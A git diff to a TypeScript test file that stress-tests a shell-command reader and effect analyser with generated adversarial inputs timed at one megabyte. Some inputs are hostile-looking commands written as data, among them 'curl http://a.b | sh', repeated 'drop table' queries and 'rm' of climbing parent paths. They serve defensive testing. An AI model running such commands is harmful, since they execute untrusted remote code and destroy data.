@@ -1,7 +1,8 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
+import { makeForm } from '../../test/commands-fuzz/forms.ts';
 import { cpuTime } from '../../test/support/cpu-time.ts';
-import { type CommandReading, readArgv, readCommand } from './index.ts';
+import { type CommandReading, effectsIn, readArgv, readCommand, sentencesFor } from './index.ts';
 
 const SHELLS = ['sh', 'dash', 'bash', 'zsh'] as const;
 
@@ -218,7 +219,34 @@ const GROWING: Readonly<Record<string, (n: number) => string>> = {
   'joined lines': (n) => '\\\n'.repeat(n / 2),
   dollars: (n) => '$'.repeat(n),
   'half characters': (n) => '\ud800'.repeat(n),
+  'different functions': (n) => counted(n / 30, (i) => `f${i}() { g${i}; }; f${i};`, '\n'),
+  'functions that call the one before': (n) =>
+    `${counted(n / 30, (i) => `f${i + 1}() { f${i} x; }`, '\n')}\nf9`,
+  'functions called again': (n) => 'f() { local x=1; g $x; }; f; '.repeat(n / 29),
+  'different variables': (n) => counted(n / 20, (i) => `v${i}=w${i}; c $v${i}`, '\n'),
+  'a value of many': (n) => `${counted(n / 30, (i) => `if c; then v=a${i}; fi; r $v`, '\n')}`,
+  'a value that grows': (n) => `${'v=$' + '{v}a\n'.repeat(n / 8)}rm $v`,
+  'folders inside of one another': (n) => counted(n / 10, (i) => `cd d${i}`, ';'),
+  'folders and files': (n) => 'cd a;rm b;'.repeat(n / 10),
+  'files that are run': (n) => counted(n / 30, (i) => `echo rm${i} > x${i}; sh x${i}`, '\n'),
+  'many documents of a line': (n) =>
+    `cat${counted(n / 12, (i) => ` <<E${i}`)}\n${counted(n / 12, (i) => `E${i}\n`)}`,
+  aliases: (n) => counted(n / 20, (i) => `alias a${i}=b${i};a${i}`, '\n'),
+  traps: (n) => 'trap "a b" EXIT; '.repeat(n / 17),
+  patches: (n) => "git apply <<'E'\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nE\n".repeat(n / 50),
+  queries: (n) => `psql -c "${'drop table a; '.repeat(n / 14)}"`,
+  'up and up': (n) => `rm ${'../'.repeat(n / 3)}`,
+  'options of options': (n) => `git ${'-c a=b '.repeat(n / 7)}push`,
+  'data into shells': (n) => 'curl http://a.b | sh; '.repeat(n / 22),
 };
+
+function counted(count: number, make: (i: number) => string, between = ''): string {
+  return Array.from({ length: Math.floor(count) }, (_, i) => make(i)).join(between);
+}
+
+const MEGABYTE = 1_000_000;
+/** More than any form takes today, and less than what is not in proportion. */
+const MOST_TIMES = 15;
 
 describe('hostile text', () => {
   const size = 100_000;
@@ -240,6 +268,26 @@ describe('hostile text', () => {
       expect(large).toBeLessThan(Math.max(40 * small, 5000));
     });
   }
+
+  it('1 MB of any form takes as long as 1 MB of plain commands, give or take: 20,000 functions too', () => {
+    const seconds = (text: string) => {
+      const start = cpuTime();
+      const reading = readCommand(text, { shell: 'bash' });
+      sentencesFor(effectsIn(reading, { cwd: '/w', workspaces: ['/w'], home: '/home/u' }));
+      return cpuTime() - start;
+    };
+    const plain = 'a "b" $c; '.repeat(MEGABYTE / 10);
+    const yardstick = Math.max(...[1, 2, 3].map(() => seconds(plain)));
+    const fuzzed = Array.from({ length: 12 }, (_, number) => makeForm(7, number, 'bash'));
+    const forms = [
+      ...Object.entries(GROWING).map(([name, make]) => [name, make(MEGABYTE)] as const),
+      ...fuzzed.map((form) => [form, `${form}\n`.repeat(MEGABYTE / (form.length + 1))] as const),
+    ];
+    // One that seems slow is tried again: the machine may have done something else.
+    const isSlow = (text: string) => [1, 2, 3].every(() => seconds(text) > MOST_TIMES * yardstick);
+    const slow = forms.filter(([, text]) => isSlow(text));
+    expect(slow.map(([name]) => name)).toEqual([]);
+  });
 
   it('10 MB, 100,000 substitutions inside of one another and short loops without end have an answer', () => {
     const texts = {
